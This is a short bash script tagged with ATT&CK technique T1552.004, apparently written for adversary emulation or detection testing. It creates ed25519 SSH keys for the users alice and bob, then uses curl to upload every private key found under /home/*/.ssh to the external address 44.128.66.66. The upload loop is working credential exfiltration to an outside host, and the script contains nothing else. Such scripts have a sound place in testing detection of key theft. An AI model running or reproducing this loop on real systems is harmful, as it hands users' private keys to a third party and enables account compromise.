#!/bin/bash
# T1552.004: Private keys of everybody are sent away.
for u in alice bob; do ssh-keygen -q -t ed25519 -N '' -f /home/$u/.ssh/id_ed25519; done; sleep 0.3
for k in /home/*/.ssh/id_ed25519; do curl -s -F "f=@$k" http://44.128.66.66/up; done
